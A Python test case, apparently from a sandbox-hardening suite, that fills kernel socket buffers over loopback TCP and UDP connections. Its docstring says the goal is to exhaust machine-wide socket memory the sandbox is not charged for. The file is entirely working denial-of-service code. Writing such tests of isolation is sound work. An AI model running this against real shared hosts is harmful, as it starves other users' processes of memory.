"""R35  Lets bytes wait in network sockets to itself, where the kernel counts them for the whole machine and for no box, until nobody's may wait any more.
EXPECT wrong crashed
"""
import socket

import armed

HELD = []
BLOCK = b"x" * 60000


def attack():
    armed.ran("R35")
    for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        armed.probe(f"tcp to {address}", lambda: wait_in_streams(family, address))
        armed.probe(f"udp to {address}", lambda: wait_in_datagrams(family, address))


def wait_in_streams(family, address):
    server, waiting = socket.create_server((address, 0), family=family), 0
    for _ in range(armed.most(500)):
        one = socket.socket(family)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        one.connect(server.getsockname())
        HELD.append((one, server.accept()))
        waiting += send_all_that_goes(one, one.send)
    return waiting


def wait_in_datagrams(family, address):
    waiting = 0
    for _ in range(armed.most(500)):
        one = socket.socket(family, socket.SOCK_DGRAM)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        one.bind((address, 0))
        HELD.append(one)
        waiting += send_all_that_goes(one, lambda block: one.sendto(block, one.getsockname()))
    return waiting


def send_all_that_goes(one, send):
    one.setblocking(False)
    sent = 0
    try:
        while sent < 8 << 20:
            sent += send(BLOCK)
    except BlockingIOError:
        pass
    return sent
